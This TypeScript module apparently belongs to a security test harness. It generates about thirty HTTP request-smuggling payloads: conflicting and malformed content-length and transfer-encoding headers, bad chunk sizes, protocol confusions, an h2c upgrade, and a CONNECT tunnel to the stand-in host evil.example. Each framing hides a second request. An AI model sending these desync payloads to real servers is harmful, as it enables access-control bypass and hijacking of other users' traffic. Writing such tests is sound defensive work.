import { HARM, harmful, own, type Attack, type Target } from './attack.ts';

/** Requests whose end two readers could see in different places; behind it waits another one. */
export function smuggling(target: Target): readonly Attack[] {
  const hidden = harmful(target);
  const chunked = `${HARM.length.toString(16)}\r\n${HARM}\r\n0\r\n\r\n`;
  const sized = `content-length: ${HARM.length}`;
  const framings: readonly (readonly [what: string, lines: readonly string[], body: string])[] = [
    ['a length and chunks', [sized, 'transfer-encoding: chunked'], chunked],
    ['chunks and a length', ['transfer-encoding: chunked', 'content-length: 4'], chunked],
    ['two lengths', [sized, 'content-length: 0'], HARM],
    ['two lengths the other way', ['content-length: 0', sized], HARM],
    ['a list of lengths', [`content-length: 0, ${HARM.length}`], HARM],
    ['a signed length', [`content-length: +${HARM.length}`], HARM],
    ['a negative length', ['content-length: -1'], HARM],
    ['a length in hexadecimals', [`content-length: 0x${HARM.length.toString(16)}`], HARM],
    ['a length that is none', ['content-length: many'], HARM],
    ['an empty length', ['content-length:'], HARM],
    ['a length before a blank', [`content-length : ${HARM.length}`], HARM],
    ['a folded length', ['x: y', ` ${sized}`, 'content-length: 0', sized], HARM],
    ['unknown chunks', ['transfer-encoding: cow', sized], HARM],
    ['chunks twice', ['transfer-encoding: chunked, chunked', sized], chunked],
    ['chunks that are none', ['transfer-encoding: xchunked', sized], chunked],
    ['chunks, then identity', ['transfer-encoding: chunked, identity'], chunked],
    ['chunks before a blank', ['transfer-encoding : chunked', sized], chunked],
    ['chunks behind a tab', ['transfer-encoding:\u000bchunked', sized], chunked],
    ['chunks of no size', ['transfer-encoding: chunked'], `zz\r\n${HARM}\r\n0\r\n\r\n`],
    ['chunks of a negative size', ['transfer-encoding: chunked'], `-5\r\n${HARM}\r\n0\r\n\r\n`],
    ['chunks of a huge size', ['transfer-encoding: chunked'], `fffffffffffffffff\r\n${HARM}\r\n0\r\n\r\n`],
    ['a header without a colon', [sized, 'nonsense'], HARM],
    ['a header with a zero', [sized, 'x: a\0b'], HARM],
    ['lone line feeds', [sized, 'x: a\ny: b'], HARM],
    ['a name with a blank', [sized, 'x y: a'], HARM],
  ];
  const base = Object.entries({ ...own(target), 'content-type': 'application/json' });
  const head = `POST /api/call HTTP/1.1\r\n${base.map(([name, value]) => `${name}: ${value}\r\n`).join('')}`;
  return [
    ...framings.map(([what, lines, body]) => ({
      what,
      text: `${head}${lines.join('\r\n')}\r\n\r\n${body}${hidden}`,
    })),
    { what: 'no protocol', text: `${head.replace(' HTTP/1.1', '')}${sized}\r\n\r\n${HARM}` },
    { what: 'another protocol', text: `${head.replace('HTTP/1.1', 'HTTP/9.9')}${sized}\r\n\r\n${HARM}` },
    { what: 'lines without returns', text: `${head}${sized}\r\n\r\n${HARM}`.replaceAll('\r\n', '\n') },
    { what: 'a greeting of TLS', text: '\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003' },
    { what: 'a greeting of HTTP/2', text: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' },
    {
      what: 'a tunnel',
      text: `CONNECT evil.example:443 HTTP/1.1\r\nhost: 127.0.0.1:${target.port}\r\n\r\n`,
      isUnheard: true,
    },
    {
      what: 'a change to HTTP/2',
      text: harmful(target, {
        headers: { upgrade: 'h2c', connection: 'upgrade', 'http2-settings': 'AAMAAABk' },
      }),
    },
  ];
}
